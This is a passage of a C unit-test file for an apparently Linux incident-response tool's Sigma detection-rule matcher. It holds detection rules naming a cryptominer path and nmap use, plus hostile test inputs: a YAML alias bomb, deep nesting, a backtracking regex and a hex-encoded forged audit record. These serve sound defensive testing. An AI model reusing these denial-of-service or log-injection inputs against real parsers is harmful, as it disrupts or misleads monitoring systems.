	unsigned seed = 1, i, nw = 0, ni = 0;

	(void)state;
	while (words[nw] != NULL)
		nw++;
	while (idents[ni] != NULL)
		ni++;
	for (i = 0; i < 6000; i++) {
		const char *id =
		    idents[((seed = seed * 1103515245 + 12345) >> 16) % ni];
		const char *w =
		    words[((seed = seed * 1103515245 + 12345) >> 16) % nw];
		if (strncmp(id, "sshd", 4) == 0)
			irt_buf_printf(&log,
			    "Nov 30 %02u:%02u:%02u web01 %s: Accepted "
			    "publickey for %s from 203.0.113.%u port 1 ssh2\n",
			    i / 3600, i / 60 % 60, i % 60, id,
			    i % 3 ? "svc-backup" : "deploy", i % 256);
		else if (strncmp(id, "CRON", 4) == 0)
			irt_buf_printf(&log,
			    "Nov 30 %02u:%02u:%02u web01 %s: (root) CMD (%s)\n",
			    i / 3600, i / 60 % 60, i % 60, id,
			    i % 2 ? "debian-sa1 1 1" : w);
		else
			irt_buf_printf(&log,
			    "Nov 30 %02u:%02u:%02u web01 %s: %u %s %u\n",
			    i / 3600, i / 60 % 60, i % 60, id, i, w, seed % 97);
	}
	with = hunt_pf(rules, "syslog", irt_buf_cstr(&log), true);
	without = hunt_pf(rules, "syslog", irt_buf_cstr(&log), false);
	assert_string_equal(with, without);
	/* every rule matched some events and not others */
	{
		static const char *const ids[] = { "kw", "kwall", "field",
			"notfilter", "onlynot", "oneof", "allof", "glob",
			"whole", "short", NULL };
		for (i = 0; ids[i] != NULL; i++) {
			unsigned n = count_lines(with, ids[i]);
			if (n == 0 || n >= 6000)
				fail_msg(
				    "rule %s matched %u events", ids[i], n);
		}
	}
	free(with);
	free(without);

	/* audit events: keywords over decoded values, CommandLine */
	for (i = 0; i < 2500; i++) {
		const char *arg = i % 7 == 0 ? "2F746D702F2E782F6B696E73696E67"
		    : i % 5 == 0             ? "\"/usr/bin/nmap\""
		                             : "\"--version\"";
		irt_buf_printf(&alog,
		    "type=SYSCALL msg=audit(1764547200.%03u:%u): arch=c000003e "
		    "syscall=59 success=yes exit=0 items=1 ppid=1 pid=%u "
		    "uid=0 comm=\"x\" exe=\"/usr/bin/%s\"\n"
		    "type=EXECVE msg=audit(1764547200.%03u:%u): argc=2 "
		    "a0=\"%s\" a1=%s\n",
		    i % 1000, 100 + i, 2000 + i, i % 3 ? "curl" : "bash",
		    i % 1000, 100 + i, i % 3 ? "curl" : "bash", arg);
	}
	{
		static const char arules[] =
		    "id: akw\nlogsource: {product: linux, service: auditd}\n"
		    "detection: {k: ['/tmp/.x/kinsing'], condition: k}\n"
		    "---\n"
		    "id: acmd\nlogsource: {product: linux, category: "
		    "process_creation}\n"
		    "detection:\n"
		    "  s: {Image|endswith: '/curl', CommandLine|contains: "
		    "'nmap'}\n"
		    "  condition: s\n"
		    "---\n"
		    "id: anot\nlogsource: {product: linux, category: "
		    "process_creation}\n"
		    "detection:\n"
		    "  s: {Image|endswith: '/bash'}\n"
		    "  f: {CommandLine|contains: 'version'}\n"
		    "  condition: s and not f\n";
		with = hunt_pf(arules, "audit", irt_buf_cstr(&alog), true);
		without = hunt_pf(arules, "audit", irt_buf_cstr(&alog), false);
		assert_string_equal(with, without);
		assert_true(count_lines(with, "akw") > 0);
		assert_true(count_lines(with, "acmd") > 0);
		assert_true(count_lines(with, "anot") > 0);
		free(with);
		free(without);
	}
	irt_buf_release(&log);
	irt_buf_release(&alog);
}

/* Loads rules and matches a syslog log, then an audit log, in one
 * stream of events, with the prefilter on or off. */
static char *
hunt_two(const char *rules, const char *slog, const char *alog, bool on)
{
	struct irt_sigma *s;
	struct irt_buf out = IRT_BUF_INIT;
	char *a, *b;

	assert_int_equal(irt_sigma_new(&s), 0);
	sg_sigma_set_prefilter(s, on);
	assert_int_equal(irt_sigma_load_buffer(
	                     s, "rules.yml", rules, strlen(rules), NULL, NULL),
	    0);
	a = match_log(s, "syslog", slog);
	b = match_log(s, "audit", alog);
	irt_buf_printf(&out, "%s%s", a, b);
	free(a);
	free(b);
	irt_sigma_free(s);
	return irt_buf_detach(&out);
}

/*
 * The prefilter's edges: anchors of 3 and 4 bytes at either end of a
 * value, a contains whose literal is found in the lower-case text but
 * not with its case (cased), and a syslog file long enough for the
 * choice of anchors to be made before the audit events come: the same
 * hits with it as without it.
 */
static void
test_prefilter_edges(void **state)
{
	static const char rules[] =
	    "id: three\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['q-z'], condition: k}\n"
	    "---\n"
	    "id: four\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message|contains: 'wq-z'}, condition: s}\n"
	    "---\n"
	    "id: cased\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message|contains|cased: 'Needle'}, "
	    "condition: s}\n"
	    "---\n"
	    "id: akw\nlogsource: {product: linux, service: auditd}\n"
	    "detection: {k: ['/tmp/.x/kinsing'], condition: k}\n"
	    "---\n"
	    "id: acmd\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection:\n"
	    "  s: {Image|endswith: '/curl', CommandLine|contains: 'nmap'}\n"
	    "  condition: s\n";
	static const char *const words[] = { "q-z", "Q-Z tail", "head wq-z",
		"WQ-Zx", "needle", "Needle", "NEEDLE", "idle", NULL };
	struct irt_buf slog = IRT_BUF_INIT, alog = IRT_BUF_INIT;
	char *with, *without;
	unsigned i, nw = 0;

	(void)state;
	while (words[nw] != NULL)
		nw++;
	/* more than the 2,000 events of the first choice */
	for (i = 0; i < 2400; i++)
		irt_buf_printf(&slog,
		    "Nov 30 %02u:%02u:%02u web01 app[1]: %s\n", i / 3600,
		    i / 60 % 60, i % 60, words[i % nw]);
	for (i = 0; i < 300; i++)
		irt_buf_printf(&alog,
		    "type=SYSCALL msg=audit(1764547200.%03u:%u): arch=c000003e "
		    "syscall=59 success=yes exit=0 items=1 ppid=1 pid=%u "
		    "uid=0 comm=\"x\" exe=\"/usr/bin/%s\"\n"
		    "type=EXECVE msg=audit(1764547200.%03u:%u): argc=2 "
		    "a0=\"%s\" a1=%s\n",
		    i % 1000, 100 + i, 2000 + i, i % 3 ? "curl" : "bash",
		    i % 1000, 100 + i, i % 3 ? "curl" : "bash",
		    i % 7 == 0       ? "2F746D702F2E782F6B696E73696E67"
		        : i % 5 == 0 ? "\"NMAP\""
		                     : "\"--version\"");
	with = hunt_two(rules, irt_buf_cstr(&slog), irt_buf_cstr(&alog), true);
	without =
	    hunt_two(rules, irt_buf_cstr(&slog), irt_buf_cstr(&alog), false);
	assert_string_equal(with, without);
	/* q-z in 4 of 8 words, wq-z in 2, Needle in 1, and the audit ones */
	assert_int_equal(count_lines(with, "three"), 4 * 2400 / 8);
	assert_int_equal(count_lines(with, "four"), 2 * 2400 / 8);
	assert_int_equal(count_lines(with, "cased"), 2400 / 8);
	assert_int_equal(count_lines(with, "akw"), (300 + 6) / 7);
	assert_true(count_lines(with, "acmd") > 0);
	free(with);
	free(without);
	irt_buf_release(&slog);
	irt_buf_release(&alog);
}

/*
 * Grams that share their first three bytes, and anchors of three bytes
 * that are the start of longer ones: the scan passes over a window by
 * those three bytes first, and must still find every one of them.
 */
static void
test_prefilter_shared_start(void **state)
{
	static const char rules[] =
	    "id: abc\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['zqj'], condition: k}\n"
	    "---\n"
	    "id: abcd\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['zqjk'], condition: k}\n"
	    "---\n"
	    "id: abce\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['zqjx'], condition: k}\n"
	    "---\n"
	    "id: mid\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message|contains: 'vzqjxw'}, condition: s}\n";
	static const char *const words[] = { "zqj", "ZQJK", "a zqjx", "vzqjxw",
		"zq j", "zqzqjk", "vzqjx", "zqjzqjx", NULL };
	struct irt_buf log = IRT_BUF_INIT;
	char *with, *without;
	unsigned i, nw = 0;

	(void)state;
	while (words[nw] != NULL)
		nw++;
	for (i = 0; i < 800; i++)
		irt_buf_printf(&log, "Nov 30 %02u:%02u:%02u web01 app[1]: %s\n",
		    i / 3600, i / 60 % 60, i % 60, words[i % nw]);
	with = hunt_pf(rules, "syslog", irt_buf_cstr(&log), true);
	without = hunt_pf(rules, "syslog", irt_buf_cstr(&log), false);
	assert_string_equal(with, without);
	/* zqj in 7 of 8 words, zqjk in 2, zqjx in 4, vzqjxw in 1 */
	assert_int_equal(count_lines(with, "abc"), 7 * 800 / 8);
	assert_int_equal(count_lines(with, "abcd"), 2 * 800 / 8);
	assert_int_equal(count_lines(with, "abce"), 4 * 800 / 8);
	assert_int_equal(count_lines(with, "mid"), 800 / 8);
	free(with);
	free(without);
	irt_buf_release(&log);
}

/* Hex values: either case of digits decoded; a value with a byte that
 * is no hex digit, though of even length, kept as it is. */
static void
test_audit_hex_values(void **state)
{
	char *out;
	static const char rules[] =
	    "id: cmd\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains: 'curl'}, condition: s}\n";
	static const char audit[] =
	    "type=EXECVE msg=audit(1.000:1): argc=2 a0=\"curl\" "
	    "a1=2f746D702F78\n"
	    "type=EXECVE msg=audit(2.000:2): argc=2 a0=\"curl\" "
	    "a1=2F74ZZ702F78\n"
	    "type=EXECVE msg=audit(3.000:3): argc=2 a0=\"curl\" "
	    "a1=2F7G\n";

	(void)state;
	out = hunt(rules, "audit", audit);
	assert_string_equal(out,
	    "cmd CommandLine=curl /tmp/x\n"
	    "cmd CommandLine=curl 2F74ZZ702F78\n"
	    "cmd CommandLine=curl 2F7G\n");
	free(out);
}

/* Audit records built to confuse the record parser of the matcher. */
static void
test_hostile_audit(void **state)
{
	char *out;
	static const char rules[] =
	    "id: any\nlogsource: {product: linux, service: auditd}\n"
	    "detection: {s: {type|exists: true}, condition: s}\n"
	    "---\n"
	    "id: cmd\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains: 'x'}, condition: s}\n";
	static const char audit[] =
	    "type=SYSCALL msg=audit(1.000:1): exe=\"/bin/x key='a | "
	    "type=EXECVE a0=\n"
	    "type=EXECVE msg=audit(1.000:1): argc=999999999 a0=787 a1=\"x "
	    "a2=78797 a3[0]=78 a3[1]=79 ==== = =x x=\n"
	    "type=USER_CMD msg=audit(1.000:1): msg='cmd=787 msg='x' '\n"
	    "type=SOCKADDR msg=audit(2.000:2): saddr=0A00\n"
	    "type=SOCKADDR msg=audit(3.000:3): saddr=02\n"
	    "type=PATH msg=audit(4.000:4): name=2F nametype=CREATE\n";

	(void)state;
	out = hunt(rules, "audit", audit);
	/* every event is read; odd-length hex stays as it is; a quote
	 * that does not end runs to the end of its record; a huge argc
	 * costs nothing */
	assert_non_null(strstr(out, "any type=SYSCALL\n"));
	assert_non_null(strstr(out,
	    "cmd CommandLine=787 x a2=78797 a3[0]=78 a3[1]=79 ==== = =x x=\n"));
	assert_non_null(strstr(out, "any type=SOCKADDR\n"));
	assert_non_null(strstr(out, "any type=PATH\n"));
	free(out);
}

/* The command line the timeline puts before the records is no record:
 * an argument that spells out records changes nothing. */
static void
test_audit_cmdline_prefix(void **state)
{
	char *out;
	static const char rules[] =
	    "id: cmd\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains: 'evil'}, condition: s}\n"
	    "---\n"
	    "id: exe\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {Image: '/bin/evil'}, condition: s}\n";
	/* a1 is "x | type=EXECVE a9=evil exe=/bin/evil" */
	static const char audit[] =
	    "type=SYSCALL msg=audit(1.000:1): syscall=59 pid=7 "
	    "exe=\"/bin/sh\"\n"
	    "type=EXECVE msg=audit(1.000:1): argc=2 a0=\"sh\" "
	    "a1=78207C20747970653D45584543564520613"
	    "93D6576696C206578653D2F62696E2F6576696C\n";

	(void)state;
	out = hunt(rules, "audit", audit);
	assert_string_equal(
	    out, "cmd CommandLine=sh x | type=EXECVE a9=evil exe=/bin/evil\n");
	free(out);
}

static void
test_collections(void **state)
{
	char *out;
	struct irt_sigma_stats st;
	char *w;
	static const char rules[] =
	    "action: global\n"
	    "title: shared\n"
	    "logsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  condition: sel\n"
	    "level: high\n"
	    "---\n"
	    "id: g-1\n"
	    "detection:\n"
	    "  sel: ['alpha']\n"
	    "---\n"
	    "action: repeat\n"
	    "id: g-2\n"
	    "detection:\n"
	    "  sel: ['beta']\n"
	    "---\n"
	    "action: reset\n"
	    "---\n"
	    "id: g-3\n"
	    "logsource: {product: linux}\n"
	    "detection: {x: ['gamma'], condition: x}\n";
	static const char log[] = "Nov 30 10:00:01 web01 app[1]: alpha\n"
	                          "Nov 30 10:00:02 web01 app[1]: beta\n"
	                          "Nov 30 10:00:03 web01 app[1]: gamma\n";

	(void)state;
	out = hunt(rules, "syslog", log);
	assert_string_equal(out,
	    "g-1 =app[1]: alpha\n"
	    "g-2 =app[1]: beta\n"
	    "g-3 =app[1]: gamma\n");
	free(out);
	/* after reset, the global part is gone: no logsource */
	w = load_warns("action: global\nlogsource: {product: linux}\n---\n"
	               "action: reset\n---\n"
	               "id: x\ndetection: {k: [a], condition: k}\n",
	    &st);
	assert_int_equal(st.failed, 1);
	assert_string_equal(w, "r.yml:6:1: no logsource\n");
	free(w);
}

static void
test_skips(void **state)
{
	struct irt_sigma_stats st;
	char *w;
	static const char rules[] =
	    "id: win\nlogsource: {product: windows, category: "
	    "process_creation}\n"
	    "detection: {s: {Image|endswith: '\\cmd.exe'}, condition: s}\n"
	    "---\n"
	    "id: dns\nlogsource: {product: linux, category: dns_query}\n"
	    "detection: {s: {QueryName: x}, condition: s}\n"
	    "---\n"
	    "id: parent\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {OriginalFileName|endswith: 'x'}, condition: s}\n"
	    "---\n"
	    "id: windash\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|wide|base64offset|contains: 'x'}, "
	    "condition: s}\n"
	    "---\n"
	    "id: utf16\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|utf16le|base64: 'x'}, condition: s}\n"
	    "---\n"
	    "id: expand\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {User|expand: '%admins%'}, condition: s}\n"
	    "---\n"
	    "id: unknown-mod\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {User|sortof: x}, condition: s}\n"
	    "---\n"
	    "id: nullv\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine: null}, condition: s}\n"
	    "---\n"
	    "id: count\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], condition: s | count() by src_ip > 5}\n"
	    "---\n"
	    "id: near\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], t: [x], condition: s near t}\n"
	    "---\n"
	    "id: timeframe\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], timeframe: 5m, condition: s}\n"
	    "---\n"
	    "title: corr\nid: corr\ncorrelation: {type: event_count, rules: "
	    "[x]}\n"
	    "---\n"
	    "id: ok\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], condition: s}\n"
	    "---\n"
	    "id: ok\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], condition: s}\n";

	(void)state;
	w = load_warns(rules, &st);
	assert_string_equal(w,
	    "r.yml:1: skipped rule 'win': logsource product 'windows' (irt "
	    "reads linux)\n"
	    "r.yml:5: skipped rule 'dns': logsource category 'dns_query' (no "
	    "irt event of that kind)\n"
	    "r.yml:9: skipped rule 'parent': field 'OriginalFileName' not "
	    "provided for category process_creation\n"
	    "r.yml:13: skipped rule 'windash': unsupported modifier "
	    "'wide'\n"
	    "r.yml:17: skipped rule 'utf16': unsupported modifier 'utf16le'\n"
	    "r.yml:21: skipped rule 'expand': unsupported modifier 'expand'\n"
	    "r.yml:25: skipped rule 'unknown-mod': unknown modifier 'sortof'\n"
	    "r.yml:29: skipped rule 'nullv': null value\n"
	    "r.yml:33: skipped rule 'count': aggregation ('|') not "
	    "supported\n"
	    "r.yml:37: skipped rule 'near': 'near' not supported\n"
	    "r.yml:41: skipped rule 'timeframe': timeframe (events are matched "
	    "one at a time)\n"
	    "r.yml:45: skipped rule 'corr': a correlation rule (events are "
	    "matched one at a time)\n"
	    "r.yml:53: skipped rule 'ok': id ok also in r.yml:49\n");
	assert_int_equal(st.rules, 14);
	assert_int_equal(st.loaded, 1);
	assert_int_equal(st.failed, 0);
	assert_int_equal(st.skipped, 13);
	assert_int_equal(st.by_reason[IRT_SIGMA_SKIP_LOGSOURCE], 2);
	assert_int_equal(st.by_reason[IRT_SIGMA_SKIP_FIELD], 1);
	assert_int_equal(st.by_reason[IRT_SIGMA_SKIP_MODIFIER], 4);
	assert_int_equal(st.by_reason[IRT_SIGMA_SKIP_NULL], 1);
	assert_int_equal(st.by_reason[IRT_SIGMA_SKIP_AGGREGATION], 4);
	assert_int_equal(st.by_reason[IRT_SIGMA_SKIP_DUPLICATE], 1);
	free(w);
}

static void
test_malformed(void **state)
{
	struct irt_sigma *s;
	struct irt_sigma_stats st;
	struct irt_buf sum = IRT_BUF_INIT;
	struct warns w;
	static const char rules[] =
	    "id: bad-cond\nlogsource: {product: linux, service: sshd}\n"
	    "detection:\n"
	    "  s: [failed]\n"
	    "  condition: s and nope\n"
	    "---\n"
	    "id: bad-re\nlogsource: {product: linux, service: sshd}\n"
	    "detection:\n"
	    "  s: {hostname|re: 'a(b'}\n"
	    "  condition: s\n"
	    "---\n"
	    "id: bad-cidr\nlogsource: {product: linux, service: sshd}\n"
	    "detection:\n"
	    "  s: {hostname|cidr: '10.0.0.0/33'}\n"
	    "  condition: s\n"
	    "---\n"
	    "id: no-detection\nlogsource: {product: linux}\n"
	    "---\n"
	    "id: good\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], condition: s}\n"
	    "---\n"
	    "id: broken\n"
	    "detection: [unclosed\n";

	(void)state;
	memset(&w, 0, sizeof w);
	assert_int_equal(irt_sigma_new(&s), 0);
	assert_int_equal(irt_sigma_load_buffer(
	                     s, "m.yml", rules, strlen(rules), on_warn, &w),
	    0);
	irt_sigma_stats(s, &st);
	/* one error each, and the good rule between them loads */
	assert_int_equal(st.loaded, 1);
	assert_int_equal(st.failed, 5);
	assert_int_equal(irt_sigma_failure_count(s), 5);
	assert_string_equal(w.all,
	    "m.yml:5:20: unknown search 'nope'\n"
	    "m.yml:10:20: regular expression: missing closing parenthesis at "
	    "offset 3\n"
	    "m.yml:16:22: not a CIDR network: '10.0.0.0/33'\n"
	    "m.yml:19:1: not a Sigma rule: no detection\n"
	    "m.yml:28:1: did not find expected ',' or ']' while parsing a "
	    "flow sequence\n");
	assert_int_equal(irt_sigma_summary(&sum, s), 0);
	assert_string_equal(irt_buf_cstr(&sum),
	    "1 rule loaded, 0 skipped, 5 failed to parse (m.yml:5:20, "
	    "m.yml:10:20, m.yml:16:22, m.yml:19:1, m.yml:28:1)");
	irt_buf_release(&sum);
	irt_sigma_free(s);
}

/* Hostile rule files are bounded: each fails on its own, quickly. */
static void
test_hostile(void **state)
{
	struct irt_sigma_stats st;
	struct irt_buf b = IRT_BUF_INIT;
	char *w;
	int i;

	(void)state;
	/* a billion laughs: nine levels of ten aliases */
	irt_buf_puts(&b, "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
	for (i = 1; i <= 9; i++)
		irt_buf_printf(&b,
		    "a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, "
		    "*a%d, *a%d, *a%d]\n",
		    i, i, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1,
		    i - 1, i - 1, i - 1);
	w = load_warns(irt_buf_cstr(&b), &st);
	assert_int_equal(st.failed, 1);
	assert_non_null(strstr(w, "r.yml:6:"));
	assert_non_null(strstr(w, "document too large"));
	free(w);
	/* deep nesting */
	irt_buf_clear(&b);
	for (i = 0; i < 100000; i++)
		irt_buf_putc(&b, '[');
	w = load_warns(irt_buf_cstr(&b), &st);
	assert_int_equal(st.failed, 1);
	assert_non_null(strstr(w, "r.yml:1:65: nested more than 64 levels"));
	free(w);
	/* a huge scalar */
	irt_buf_clear(&b);
	irt_buf_puts(&b, "title: ");
	for (i = 0; i < 300000; i++)
		irt_buf_putc(&b, 'x');
	w = load_warns(irt_buf_cstr(&b), &st);
	assert_int_equal(st.failed, 1);
	assert_non_null(strstr(w, "r.yml:1:8: scalar longer than 256 KiB"));
	free(w);
	/* a condition nested too deep */
	irt_buf_clear(&b);
	irt_buf_puts(&b,
	    "id: x\nlogsource: {product: linux}\n"
	    "detection:\n  s: [a]\n  condition: ");
	for (i = 0; i < 1000; i++)
		irt_buf_puts(&b, "not ");
	irt_buf_puts(&b, "s\n");
	w = load_warns(irt_buf_cstr(&b), &st);
	assert_int_equal(st.failed, 1);
	assert_non_null(strstr(w, "r.yml:5:"));
	assert_non_null(strstr(w, "condition nested too deep"));
	free(w);
	irt_buf_release(&b);
}

/* A regular expression built to backtrack is cut off and reported once,
 * and matching goes on. */
static void
test_regex_limit(void **state)
{
	struct irt_sigma *s;
	struct irt_sigma_stats st;
	struct irt_buf log = IRT_BUF_INIT;
	struct warns w;
	char *out;
	int i, j;
	static const char rules[] =
	    "id: evil-re\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {hostname|re: '^(a|a?)+$'}, condition: s}\n"
	    "---\n"
	    "id: next\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: [marker], condition: k}\n";

	(void)state;
	for (i = 0; i < 3; i++) {
		irt_buf_printf(&log, "Nov 30 10:00:0%d ", i);
		for (j = 0; j < 40; j++)
			irt_buf_putc(&log, 'a');
		irt_buf_puts(&log, "b app[1]: marker\n");
	}
	memset(&w, 0, sizeof w);
	assert_int_equal(irt_sigma_new(&s), 0);
	assert_int_equal(irt_sigma_load_buffer(
	                     s, "re.yml", rules, strlen(rules), on_warn, &w),
	    0);
	out = match_log(s, "syslog", irt_buf_cstr(&log));
	irt_sigma_stats(s, &st);
	assert_int_equal(st.cutoffs, 3);
	assert_int_equal(w.n, 1);
	assert_string_equal(w.all,
	    "re.yml:1: rule 'evil-re': a regular expression hit its match "
	    "limit on syslog:log line 1 and did not match\n");
	assert_string_equal(out,
	    "next =app[1]: marker\n"
	    "next =app[1]: marker\n"
	    "next =app[1]: marker\n");
	free(out);
	irt_buf_release(&log);
	irt_sigma_free(s);
}

static void
write_file(const char *dir, const char *name, const char *text)
{
	char path[4200];
	FILE *f;

	snprintf(path, sizeof path, "%s/%s", dir, name);
	assert_non_null(f = fopen(path, "w"));
	fputs(text, f);
	fclose(f);
}

static void
test_directory(void **state)
{
	char *dir = unit_tmpdir(), *out_dir = unit_tmpdir(), path[4200],
	     other[4200];
	struct irt_sigma *s;
	struct irt_sigma_stats st;
	struct warns w;
	const struct irt_sigma_file *f;
	char sha[65];
	static const char rule[] =
	    "id: d-%s\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {s: [failed], condition: s}\n";
	char text[512];
	time_t t0;

	(void)state;
	snprintf(path, sizeof path, "%s/sub", dir);
	assert_int_equal(mkdir(path, 0755), 0);
	snprintf(path, sizeof path, "%s/.git", dir);
	assert_int_equal(mkdir(path, 0755), 0);
	snprintf(text, sizeof text, rule, "b");
	write_file(dir, "b.yml", text);
	snprintf(text, sizeof text, rule, "a");
	write_file(dir, "sub/a.yaml", text);
	snprintf(text, sizeof text, rule, "git");
	write_file(dir, ".git/hidden.yml", text);
	write_file(dir, "notes.txt", "not a rule");
	/* a link out of the folder is not followed; one inside is */
	snprintf(text, sizeof text, rule, "out");
	write_file(out_dir, "out.yml", text);
	snprintf(other, sizeof other, "%s/out.yml", out_dir);
	snprintf(path, sizeof path, "%s/c-out.yml", dir);
	assert_int_equal(symlink(other, path), 0);
	snprintf(path, sizeof path, "%s/c-in.yml", dir);
	assert_int_equal(symlink("sub/a.yaml", path), 0);
	/* a FIFO is not opened for reading (it would block) */
	snprintf(path, sizeof path, "%s/d-fifo.yml", dir);
	assert_int_equal(mkfifo(path, 0644), 0);

	memset(&w, 0, sizeof w);
	assert_int_equal(irt_sigma_new(&s), 0);
	t0 = time(NULL);
	assert_int_equal(irt_sigma_load(s, dir, on_warn, &w), 0);
	assert_true(time(NULL) - t0 < 10);
	irt_sigma_stats(s, &st);
	assert_int_equal(st.files, 3);
	assert_int_equal(st.loaded, 2);
	assert_int_equal(st.skipped, 1); /* sub/a.yaml repeats c-in.yml */
	assert_int_equal(irt_sigma_file_count(s), 3);
	f = irt_sigma_file_at(s, 0);
	snprintf(path, sizeof path, "%s/b.yml", dir);
	assert_string_equal(f->path, path);
	snprintf(text, sizeof text, rule, "b");
	assert_int_equal(irt_sha256_hex(sha, text, strlen(text)), 0);
	assert_string_equal(f->sha256, sha);
	assert_int_equal(f->loaded, 1);
	f = irt_sigma_file_at(s, 1);
	snprintf(path, sizeof path, "%s/c-in.yml", dir);
	assert_string_equal(f->path, path);
	assert_int_equal(f->loaded, 1);
	f = irt_sigma_file_at(s, 2);
	snprintf(path, sizeof path, "%s/sub/a.yaml", dir);
	assert_string_equal(f->path, path);
	assert_int_equal(f->skipped, 1);
	assert_null(irt_sigma_file_at(s, 3));
	assert_non_null(strstr(w.all, "c-out.yml' is a link out of"));
	assert_non_null(strstr(w.all, "d-fifo.yml' is not a regular file"));
	/* a single file, and a missing path */
	snprintf(path, sizeof path, "%s/b.yml", dir);
	assert_int_equal(irt_sigma_load(s, path, on_warn, &w), 0);
	snprintf(path, sizeof path, "%s/missing.yml", dir);
	assert_int_equal(irt_sigma_load(s, path, on_warn, &w), IRT_ENOTFOUND);
	assert_non_null(strstr(irt_error_last(), "missing.yml"));
	irt_sigma_free(s);
	unit_rmtree(dir);
	unit_rmtree(out_dir);
}

struct detail {
	struct irt_sigma *s;
	unsigned n;
	char text[1024];
};

static int
detail_hit(const struct irt_sigma_hit *h, void *arg)
{
	struct detail *d = arg;
	size_t i, n;

	d->n++;
	n = (size_t)snprintf(d->text, sizeof d->text, "%s|%s|%s|%s|", h->id,
	    h->title, h->level, h->status);
	for (i = 0; i < h->ntags; i++)
		n += (size_t)snprintf(d->text + n, sizeof d->text - n, "%s%s",
		    i ? "," : "", h->tags[i]);
	snprintf(d->text + n, sizeof d->text - n, "|%s:%u|%s|%.*s", h->file,
	    h->line, h->field, (int)h->value_len, h->value);
	return 0;
}

static int
detail_event(const struct irt_tl_event *ev, void *arg)
{
	struct detail *d = arg;

	return irt_sigma_match(d->s, ev, detail_hit, d);
}

static void
test_hit_details(void **state)
{
	struct irt_tl_opts o;
	struct irt_tl *tl;
	struct detail d;
	static const char rule[] =
	    "title: Sudo to an odd user\n"
	    "id: 2f9d3b44-1111-4222-8333-944455556666\n"
	    "status: test\n"
	    "level: high\n"
	    "tags: [attack.privilege_escalation, attack.t1548.003]\n"
	    "logsource: {product: linux, service: sudo}\n"
	    "detection: {s: {USER|startswith: '#'}, condition: s}\n";

	(void)state;
	memset(&d, 0, sizeof d);
	assert_int_equal(irt_sigma_new(&d.s), 0);
	assert_int_equal(irt_sigma_load_buffer(
	                     d.s, "sudo.yml", rule, strlen(rule), NULL, NULL),
	    0);
	memset(&o, 0, sizeof o);
	o.year = 2026;
	o.no_store = true;
	o.each = detail_event;
	o.each_arg = &d;
	assert_int_equal(irt_tl_new(&tl, &o), 0);
	assert_int_equal(irt_tl_add_buffer(tl, "syslog", "auth.log", SYSLOG,
	                     strlen(SYSLOG), "web01"),
	    0);
	irt_tl_free(tl);
	assert_int_equal(d.n, 1);
	assert_string_equal(d.text,
	    "2f9d3b44-1111-4222-8333-944455556666|Sudo to an odd user|high|"
	    "test|attack.privilege_escalation,attack.t1548.003|sudo.yml:1|"
	    "USER|#-1");
	irt_sigma_free(d.s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_keywords),
		cmocka_unit_test(test_services),
		cmocka_unit_test(test_modifiers),
		cmocka_unit_test(test_wildcards),
		cmocka_unit_test(test_base64_cidr),
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_values),
		cmocka_unit_test(test_audit),
		cmocka_unit_test(test_sources),
		cmocka_unit_test(test_windash),
		cmocka_unit_test(test_parent),
		cmocka_unit_test(test_decoded_keywords),
		cmocka_unit_test(test_prefilter),
		cmocka_unit_test(test_prefilter_same),
		cmocka_unit_test(test_prefilter_edges),
		cmocka_unit_test(test_prefilter_shared_start),
		cmocka_unit_test(test_audit_hex_values),
		cmocka_unit_test(test_hostile_audit),
		cmocka_unit_test(test_audit_cmdline_prefix),
		cmocka_unit_test(test_collections),
		cmocka_unit_test(test_skips),
		cmocka_unit_test(test_malformed),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_regex_limit),
		cmocka_unit_test(test_directory),
		cmocka_unit_test(test_hit_details),
	};

	return UNIT_RUN(tests);
}
